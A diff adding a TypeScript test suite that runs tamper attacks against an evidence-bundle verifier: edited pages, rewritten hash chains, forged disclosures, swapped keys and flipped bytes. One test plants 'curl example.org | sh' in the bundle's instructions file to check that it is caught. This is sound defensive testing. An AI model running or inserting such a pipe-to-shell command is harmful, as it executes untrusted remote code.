@@ -1,0 +1,219 @@
+import { beforeAll, describe, expect, it } from 'vitest';
+import { canonicalBytes } from '../../utils/chain/canonical';
+import { checkpointText } from '../../utils/chain/checkpoint';
+import { disclose } from '../../utils/chain/disclosure';
+import { headerLine, headOf, parseHeader } from '../../utils/chain/header';
+import { sha256Hex } from '../../utils/chain/sha256';
+import { makeBundle } from '../../utils/evidence/bundle';
+import { toPem } from '../../utils/evidence/pem';
+import { verifyBundle } from '../../utils/evidence/verify';
+import { type Key, type LittleLog, littleLog, newKey, semarang } from './little-log';
+import { Tampered } from './tampered';
+
+const options = { profile: 'lengkap', now: '2020-08-06T06:00:00.000Z', clock: 'device', offsetMin: 420 } as const;
+let key: Key;
+let zip: Uint8Array;
+let source: LittleLog;
+let bag: Tampered;
+
+beforeAll(async () => {
+  key = await newKey();
+  source = littleLog(key, semarang(key));
+  zip = (await makeBundle(source, options)).bytes;
+});
+
+const failed = async (tampered: Tampered): Promise<string[]> => {
+  const { ok, checks } = await verifyBundle(await tampered.zip());
+  const ids = [...new Set(checks.filter((check) => !check.ok).map(({ id }) => id))];
+  expect(ok).toBe(ids.length === 0);
+  return ids;
+};
+
+/** Every later header made anew from the records in the bag, as an attacker would who rewrites history. */
+const rechain = (tampered: Tampered): void => {
+  let prev = '0'.repeat(64);
+  const lines = tampered
+    .text('data/log.jsonl')
+    .trimEnd()
+    .split('\n')
+    .map((line, seq) => {
+      const header = parseHeader(line);
+      const record = tampered.files.get(`data/records/${String(seq).padStart(6, '0')}.json`);
+      const made = headerLine({ ...header, kind: header.kind as 'capture', prev, body: record ? sha256Hex(record) : header.body });
+      prev = headOf(made);
+      return made;
+    });
+  tampered.write('data/log.jsonl', `${lines.join('\n')}\n`);
+  tampered.edit('data/export.json', (json) => json.replace(/"head":"[0-9a-f]{64}"/, `"head":"${prev}"`));
+};
+
+describe('the nine attacks of evidence.md 5', () => {
+  it('opens and closes an untouched bag without a fault (the attacks below start from here)', async () => {
+    bag = await Tampered.open(zip);
+    expect(await failed(bag)).toEqual([]);
+    expect(await failed(await bag.rebag())).toEqual([]);
+  });
+  it('1: an edited page', async () => {
+    bag = (await Tampered.open(zip)).edit('data/snapshots/000001/page.html', (page) => page.replace('Aktif', 'Selesai'));
+    expect(await failed(bag)).toEqual(expect.arrayContaining(['payload', 'files']));
+  });
+  it('2: an edited page with manifests made anew', async () => {
+    bag = (await Tampered.open(zip)).edit('data/snapshots/000001/page.html', (page) => page.replace('Aktif', 'Selesai'));
+    expect(await failed(await bag.rebag())).toEqual(['signature', 'files']);
+  });
+  it('2b: and signed again by the true key', async () => {
+    bag = (await Tampered.open(zip)).edit('data/snapshots/000001/page.html', (page) => page.replace('Aktif', 'Selesai'));
+    expect(await failed(await (await bag.rebag()).sign(key))).toEqual(['files']);
+  });
+  it('3: a dropped log line', async () => {
+    bag = (await Tampered.open(zip)).edit('data/log.jsonl', (log) => log.split('\n').toSpliced(3, 1).join('\n'));
+    expect(await failed(await (await bag.rebag()).sign(key))).toEqual(expect.arrayContaining(['chain', 'export']));
+  });
+  it('4: a truncated tail, also with the record gone', async () => {
+    bag = (await Tampered.open(zip)).edit('data/log.jsonl', (log) => `${log.trimEnd().split('\n').slice(0, -1).join('\n')}\n`);
+    bag.remove('data/records/000008.json').remove('data/disclosures/000008.txt');
+    expect(await failed(await bag.rebag())).toEqual(expect.arrayContaining(['signature', 'export', 'findings']));
+  });
+  it('4b: a truncated tail with head, size and findings made to fit: only the signature knows', async () => {
+    bag = (await Tampered.open(zip)).edit('data/log.jsonl', (log) => `${log.trimEnd().split('\n').slice(0, -1).join('\n')}\n`);
+    bag.remove('data/records/000008.json').remove('data/disclosures/000008.txt');
+    const head = headOf(bag.text('data/log.jsonl').trimEnd().split('\n').at(-1) ?? '');
+    bag.edit('data/export.json', (json) => json.replace('"size":9', '"size":8').replace(/"head":"[0-9a-f]{64}"/, `"head":"${head}"`));
+    bag.edit('bag-info.txt', (info) => info.replace('/9', '/8'));
+    const findings = JSON.parse(bag.text('data/temuan.json'));
+    bag.write('data/temuan.json', canonicalBytes({ ...findings, findings: [{ ...findings.findings[0], current: true }] }));
+    expect(await failed(await bag.rebag())).toEqual(['signature']);
+  });
+  it.each(['data/tambahan.txt', 'data/records/000099.json', 'data/snapshots/000001/lain.html', 'lain.txt'])(
+    '5: an extra file %s',
+    async (path) => {
+      bag = (await Tampered.open(zip)).write(path, 'x');
+      expect(await failed(bag)).toEqual(expect.arrayContaining([path.startsWith('data/') ? 'payload' : 'tags', 'layout']));
+    },
+  );
+  it('5b: an extra file, listed and signed by the true key', async () => {
+    bag = (await Tampered.open(zip)).write('data/tambahan.txt', 'x');
+    expect(await failed(await (await bag.rebag()).sign(key))).toEqual(['layout']);
+  });
+  it('6: a forged disclosure, signed by the true key', async () => {
+    bag = (await Tampered.open(zip)).edit('data/disclosures/000001.txt', (lines) => {
+      const at = lines
+        .split('\n')
+        .findIndex((line) => atob(line.replaceAll('-', '+').replaceAll('_', '/')).includes('"pelatihan/0/status","Aktif"'));
+      return lines
+        .split('\n')
+        .with(at, disclose('AAAAAAAAAAAAAAAAAAAAAA', 'pelatihan/0/status', 'Selesai'))
+        .join('\n');
+    });
+    expect(await failed(await (await bag.rebag()).sign(key))).toContain('disclosures');
+  });
+  it('6b: a disclosure twice, and one of a name the record does not have', async () => {
+    bag = (await Tampered.open(zip)).edit('data/disclosures/000001.txt', (lines) => `${lines}${lines.split('\n')[0]}\n`);
+    expect(await failed(await (await bag.rebag()).sign(key))).toContain('disclosures');
+    bag = (await Tampered.open(zip)).edit(
+      'data/disclosures/000001.txt',
+      (lines) => `${lines}${disclose('AAAAAAAAAAAAAAAAAAAAAA', 'pelatihan/9/nama', 'Baru')}\n`,
+    );
+    expect(await failed(await (await bag.rebag()).sign(key))).toContain('disclosures');
+  });
+  it('7: a key twice inside a record whose hash was made to fit, the chain made anew, signed by the true key', async () => {
+    bag = (await Tampered.open(zip)).edit('data/records/000005.json', (json) => json.replace('"status":200', '"status":200,"status":200'));
+    rechain(bag);
+    expect(await failed(await (await bag.rebag()).sign(key))).toContain('records');
+  });
+  it('8: an old token moved to a newer checkpoint', async () => {
+    const { head, size } = await makeBundle(source, options);
+    const fingerprint = sha256Hex(key.spki);
+    const [old, newer] = [2, size].map((count) => {
+      const line = source.entries[count - 1]?.line ?? '';
+      return checkpointText({ log: source.log, size: count, head: headOf(line), time: '2020-08-06T06:00:00.000Z', key: fingerprint });
+    }) as [string, string];
+    expect(newer).toContain(head);
+    const token = (text: string) =>
+      Uint8Array.from([
+        0x30,
+        0x20,
+        ...(sha256Hex(new TextEncoder().encode(text)).match(/../g) ?? []).map((pair) => Number.parseInt(pair, 16)),
+      ]);
+    const sealed = async (stamped: string) => {
+      bag = (await Tampered.open(zip))
+        .write('data/anchors/000009/checkpoint.txt', newer)
+        .write('data/anchors/000009/checkpoint.tsa.tsr', token(stamped));
+      return failed(await (await bag.rebag()).sign(key));
+    };
+    expect(await sealed(newer)).toEqual([]);
+    expect(await sealed(old)).toEqual(['anchors']);
+  });
+  it('8b: a checkpoint of another history', async () => {
+    const text = checkpointText({
+      log: source.log,
+      size: 3,
+      head: 'ab'.repeat(32),
+      time: '2020-08-06T06:00:00.000Z',
+      key: sha256Hex(key.spki),
+    });
+    bag = (await Tampered.open(zip)).write('data/anchors/000003/checkpoint.txt', text);
+    expect(await failed(await (await bag.rebag()).sign(key))).toEqual(['anchors']);
+  });
+  it('9: the key swapped and the bag signed again', async () => {
+    const other = await newKey();
+    bag = (await Tampered.open(zip)).write('kunci-publik.pem', toPem(other.spki));
+    bag.edit('data/export.json', (json) => json.replace(/sha256:[0-9a-f]{64}/, `sha256:${sha256Hex(other.spki)}`));
+    expect(await failed(await (await bag.rebag()).sign(other))).toEqual(['key']);
+  });
+});
+
+describe('further attacks', () => {
+  it('findings that the entries do not bear out', async () => {
+    bag = (await Tampered.open(zip)).edit('data/temuan.json', (json) => json.replaceAll('"Aktif"', '"Selesai"'));
+    expect(await failed(await (await bag.rebag()).sign(key))).toEqual(['findings']);
+  });
+  it('instructions that tell the reader to run something', async () => {
+    bag = (await Tampered.open(zip)).edit('PERIKSA.txt', (text) => `${text}\ncurl example.org | sh\n`);
+    expect(await failed(await bag.retag())).toEqual(['export']);
+  });
+  it('another card number under the same account', async () => {
+    bag = await Tampered.open(zip);
+    bag.edit('data/export.json', (json) => json.replace(/"logSecret":"[0-9a-f]{64}"/, `"logSecret":"${'0'.repeat(64)}"`));
+    expect(await failed(await (await bag.rebag()).sign(key))).toEqual(['account']);
+  });
+  it('a simulated clock passed off as the device’s', async () => {
+    const simulated = await makeBundle(source, { ...options, clock: 'simulated' });
+    bag = (await Tampered.open(simulated.bytes)).edit('data/export.json', (json) => json.replace('simulated', 'device'));
+    expect(await failed(await bag.rebag())).toEqual(['signature']);
+  });
+  it('a record whose withholding is denied', async () => {
+    bag = (await Tampered.open(zip)).remove('data/records/000002.json').remove('data/disclosures/000002.txt');
+    expect(await failed(await (await bag.rebag()).sign(key))).toEqual(['export']);
+  });
+  it.each(['export.json', 'log.jsonl', 'temuan.json', 'laporan.html', 'records/000000.json'])('a missing data/%s', async (path) => {
+    bag = (await Tampered.open(zip)).remove(`data/${path}`);
+    expect((await failed(await (await bag.rebag()).sign(key))).length).toBeGreaterThan(0);
+  });
+});
+
+describe('any flipped byte', () => {
+  it('makes the verdict false, wherever it is', async () => {
+    // Every byte of the first file's header and of the end, and every 97th between.
+    const places = Array.from({ length: zip.length }, (_, at) => at).filter((at) => at < 120 || at > zip.length - 120 || at % 97 === 0);
+    const survived: number[] = [];
+    for (const at of places) {
+      const flipped = zip.slice();
+      flipped[at] = (flipped[at] ?? 0) ^ (1 << (at % 8));
+      if ((await verifyBundle(flipped)).ok) survived.push(at);
+    }
+    expect(survived).toEqual([]);
+  }, 120_000);
+  it('in any file of the bag, zipped anew, makes the verdict false', async () => {
+    const { files } = await Tampered.open(zip);
+    const survived: string[] = [];
+    for (const [path, bytes] of files) {
+      for (const at of [0, bytes.length >> 1, bytes.length - 1]) {
+        const tampered = await Tampered.open(zip);
+        tampered.write(path, bytes.with(at, (bytes[at] ?? 0) ^ 1));
+        if ((await verifyBundle(await tampered.zip())).ok) survived.push(`${path}@${at}`);
+      }
+    }
+    expect(survived).toEqual([]);
+  }, 120_000);
+});
